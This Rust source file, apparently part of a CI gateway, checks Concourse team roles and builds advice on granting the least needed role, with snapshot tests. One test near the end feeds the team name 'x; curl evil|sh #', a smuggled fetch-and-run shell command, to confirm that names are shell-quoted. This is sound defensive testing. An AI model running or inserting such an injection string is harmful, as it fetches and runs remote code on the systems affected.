//! Who we are in Concourse, what that lets us do, and what would let us do more.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use super::{fly, path, wire::User};

/// What a call needs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Need {
    /// To list, show and watch.
    Look,
    /// To trigger, rerun and cancel.
    Act,
}

impl Need {
    /// The least role that allows it, unless the server's own role table says otherwise.
    pub(super) fn role(self) -> &'static str {
        match self {
            Self::Look => "viewer",
            Self::Act => "pipeline-operator",
        }
    }

    fn is_met_by(self, role: &str) -> bool {
        match role {
            "owner" | "member" | "pipeline-operator" => true,
            "viewer" => self == Self::Look,
            _ => false,
        }
    }
}

/// The team whose roles a web node sets anew from its own settings whenever it starts.
const MAIN: &str = "main";

/// How Concourse spells a team, as far as we can see: it finds teams without regard to case, and roles by their exact
/// name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Spelling {
    /// As asked.
    Same,
    Other(String),
    /// The team is not among those that we see.
    Unseen,
}

impl Spelling {
    /// Of `team`, where these can be seen.
    pub(super) fn among(names: impl IntoIterator<Item = String>, team: &str) -> Self {
        let mut names: Vec<_> =
            names.into_iter().filter(|name| name.to_lowercase() == team.to_lowercase()).collect();
        // A team of exactly this name is the one that is meant.
        if names.iter().any(|name| name == team) {
            return Self::Same;
        }
        names.pop().map_or(Self::Unseen, Self::Other)
    }
}

impl User {
    /// Whether the token names nobody: no role of any team can match it.
    pub(super) fn is_nobody(&self) -> bool {
        let is_said = self.connector.as_ref().is_some_and(|connector| !connector.is_empty());
        !self.is_admin && !is_said && self.user_id.is_empty() && self.teams.is_empty()
    }

    /// The roles that we have in `team`.
    pub(super) fn roles(&self, team: &str) -> Vec<String> {
        self.teams.get(team).cloned().flatten().unwrap_or_default()
    }

    /// Whether we may do in `team` what `need` says.
    pub(super) fn may(&self, team: &str, need: Need) -> bool {
        self.is_admin || self.roles(team).iter().any(|role| need.is_met_by(role))
    }

    /// Us, as roles of teams name us: `local:ci-gateway`.
    pub(super) fn identity(&self) -> String {
        match (self.connector.as_deref().unwrap_or_default(), self.login()) {
            ("", "") => "nobody in particular".to_owned(),
            ("", login) => login.to_owned(),
            (connector, login) => format!("{connector}:{login}"),
        }
    }

    fn login(&self) -> &str {
        let names = [&self.user_id, &self.user_name, &self.name];
        names.into_iter().find(|name| !name.is_empty()).map_or("", String::as_str)
    }

    /// Every name under which builds may say that we made them; which one depends on the server's settings.
    pub(super) fn display_names(&self) -> BTreeSet<String> {
        let names =
            [&self.display_user_id, &self.user_name, &self.name, &self.user_id, &self.email, &self.sub];
        names.into_iter().filter(|name| !name.is_empty()).cloned().collect()
    }
}

/// What would mend a token that names nobody.
pub(super) fn nobody() -> String {
    "Concourse logs us in, but with a token that does not say who we are (no connector, no team): every list \
     is empty and every change is refused. Gatehouse asks for the scopes `openid profile email federated:id \
     groups`; something between it and Concourse lets only `openid` through. Let `federated:id` pass, and \
     check the provider again"
        .to_owned()
}

/// What would mend a job that spells `team` otherwise than Concourse, which would replace the roles of the team that it
/// has if it was told to make this one.
pub(super) fn spelled_otherwise(team: &str, spelling: &str) -> String {
    format!("Concourse spells team `{team}` as `{spelling}`, and roles go by that name: correct the jobs")
}

/// What would give `user` the least role that `need` asks for in `team`. A command that sets roles is given only for a
/// team of exactly this name: Concourse would take it for one of another case, too.
pub(super) fn remedy(user: &User, server: &str, team: &str, need: Need, spelling: &Spelling) -> String {
    match spelling {
        Spelling::Other(spelling) => spelled_otherwise(team, spelling),
        Spelling::Same => role_remedy(user, server, team, need),
        Spelling::Unseen => format!(
            "look in `fly -t TARGET teams` whether team `{team}` is spelled so: roles go by the exact name, so if not, \
             correct the jobs and leave the team as it is. If it is, {}",
            role_remedy(user, server, team, need)
        ),
    }
}

fn role_remedy(user: &User, server: &str, team: &str, need: Need) -> String {
    let (identity, role) = (user.identity(), need.role());
    let connector = user.connector.as_deref().unwrap_or_default();
    let api = format!(
        "PUT {server}/api/v1/teams/{} with {}",
        path::escape(team),
        json!({"auth": {"…": "the present roles", role: {"users": [identity], "groups": []}}})
    );
    let given = format!("give `{identity}` the role `{role}` in team `{team}`");
    let entry = format!("`- {{name: {role}, {connector}: {{users: [{}]}}}}`", Value::from(user.login()));
    // Almost anything is the name of a team, and the command is pasted by an owner.
    let in_shell = fly::shell(team);
    match (team, connector) {
        // `fly set-team`, and files that say the same, know no such users.
        (MAIN, "client" | "") => format!(
            "{given}: as an owner of the team, {api} (it replaces the team's roles: keep the present ones). A web node \
             that starts sets the roles of `{MAIN}` anew from its own settings, so better use another team"
        ),
        (_, "client" | "") => format!(
            "{given}: as an owner of the team, {api} (it replaces the team's roles: keep the present ones)"
        ),
        (MAIN, _) => format!(
            "{given}: add {entry} under `roles:` in the file that `CONCOURSE_MAIN_TEAM_CONFIG` of the web nodes names, \
             and restart them. A web node that starts sets the roles of `{MAIN}` anew from its own settings, so what \
             `fly set-team` gives there does not last"
        ),
        (_, _) => format!(
            "{given}: as an owner of the team, write its present roles (`fly -t TARGET get-team -n {in_shell}`) and \
             {entry} under `roles:` in team.yml, then `fly -t TARGET set-team -n {in_shell} --config team.yml`; or \
             {api}. Both replace the team's roles"
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn user(json: Value) -> User {
        serde_json::from_value(json).unwrap()
    }

    #[test]
    fn roles_allow_what_concourse_says_they_do() {
        let roles = json!({"teams": {"o": ["owner"], "m": ["member"], "p": ["viewer", "pipeline-operator"],
            "v": ["viewer"], "n": null, "x": ["new-role"]}});
        let user = user(roles);
        let able = |need| {
            let teams = ["o", "m", "p", "v", "n", "x", "unknown"];
            teams.into_iter().filter(|team| user.may(team, need)).collect::<Vec<_>>()
        };
        assert_eq!(able(Need::Look), ["o", "m", "p", "v"]);
        assert_eq!(able(Need::Act), ["o", "m", "p"]);
    }

    #[test]
    fn an_admin_may_do_anything_anywhere() {
        assert!(user(json!({"is_admin": true, "teams": {}})).may("any", Need::Act));
    }

    #[test]
    fn a_token_without_connector_and_teams_is_nobodys() {
        assert!(user(json!({"sub": "Cg", "teams": {}, "connector": ""})).is_nobody());
        assert!(!user(json!({"connector": "local", "teams": {}})).is_nobody());
        assert!(!user(json!({"teams": {"main": ["viewer"]}})).is_nobody());
    }

    #[test]
    fn the_remedy_can_be_typed_in() {
        let local = user(json!({"connector": "local", "user_id": "ci-gateway"}));
        insta::assert_snapshot!(
            remedy(&local, "https://ci.example.com", "payments", Need::Act, &Spelling::Same),
            @r#"give `local:ci-gateway` the role `pipeline-operator` in team `payments`: as an owner of the team, write its present roles (`fly -t TARGET get-team -n payments`) and `- {name: pipeline-operator, local: {users: ["ci-gateway"]}}` under `roles:` in team.yml, then `fly -t TARGET set-team -n payments --config team.yml`; or PUT https://ci.example.com/api/v1/teams/payments with {"auth":{"pipeline-operator":{"groups":[],"users":["local:ci-gateway"]},"…":"the present roles"}}. Both replace the team's roles"#
        );
        let client = user(json!({"connector": "client", "user_id": "gatehouse"}));
        insta::assert_snapshot!(
            remedy(&client, "https://ci.example.com", "payments", Need::Look, &Spelling::Same),
            @r#"give `client:gatehouse` the role `viewer` in team `payments`: as an owner of the team, PUT https://ci.example.com/api/v1/teams/payments with {"auth":{"viewer":{"groups":[],"users":["client:gatehouse"]},"…":"the present roles"}} (it replaces the team's roles: keep the present ones)"#
        );
    }

    #[test]
    fn no_command_is_given_for_a_team_that_may_be_spelled_otherwise() {
        let local = user(json!({"connector": "local", "user_id": "ci-gateway"}));
        let advice =
            |spelling: &Spelling| remedy(&local, "https://ci.example.com", "MAIN", Need::Act, spelling);
        let other = advice(&Spelling::Other("main".to_owned()));
        assert_eq!(
            other,
            "Concourse spells team `MAIN` as `main`, and roles go by that name: correct the jobs"
        );
        let unseen = advice(&Spelling::Unseen);
        assert!(
            unseen.starts_with("look in `fly -t TARGET teams` whether team `MAIN` is spelled so"),
            "{unseen}"
        );
    }

    #[test]
    fn roles_in_main_are_the_web_nodes_to_give() {
        let remedy = |user: Value| {
            remedy(&serde_json::from_value(user).unwrap(), "https://ci", "main", Need::Act, &Spelling::Same)
        };
        insta::assert_snapshot!(
            remedy(json!({"connector": "local", "user_id": "ci-gateway"})),
            @r#"give `local:ci-gateway` the role `pipeline-operator` in team `main`: add `- {name: pipeline-operator, local: {users: ["ci-gateway"]}}` under `roles:` in the file that `CONCOURSE_MAIN_TEAM_CONFIG` of the web nodes names, and restart them. A web node that starts sets the roles of `main` anew from its own settings, so what `fly set-team` gives there does not last"#
        );
        insta::assert_snapshot!(
            remedy(json!({"connector": "client", "user_id": "gatehouse"})),
            @r#"give `client:gatehouse` the role `pipeline-operator` in team `main`: as an owner of the team, PUT https://ci/api/v1/teams/main with {"auth":{"pipeline-operator":{"groups":[],"users":["client:gatehouse"]},"…":"the present roles"}} (it replaces the team's roles: keep the present ones). A web node that starts sets the roles of `main` anew from its own settings, so better use another team"#
        );
    }

    #[test]
    fn a_shell_takes_the_name_of_a_team_as_one_argument() {
        let local = user(json!({"connector": "local", "user_id": "ci-gateway"}));
        let advice =
            remedy(&local, "https://ci.example.com", "x; curl evil|sh #", Need::Act, &Spelling::Same);
        for command in ["get-team -n 'x; curl evil|sh #'`", "set-team -n 'x; curl evil|sh #' --config"] {
            assert!(advice.contains(command), "{advice}");
        }
    }

    #[test]
    fn a_token_of_a_server_that_does_not_say_the_connector_is_somebodys() {
        assert!(!user(json!({"user_id": "ci-gateway", "teams": {}})).is_nobody());
        assert!(user(json!({"user_id": "", "teams": {}})).is_nobody());
    }
}
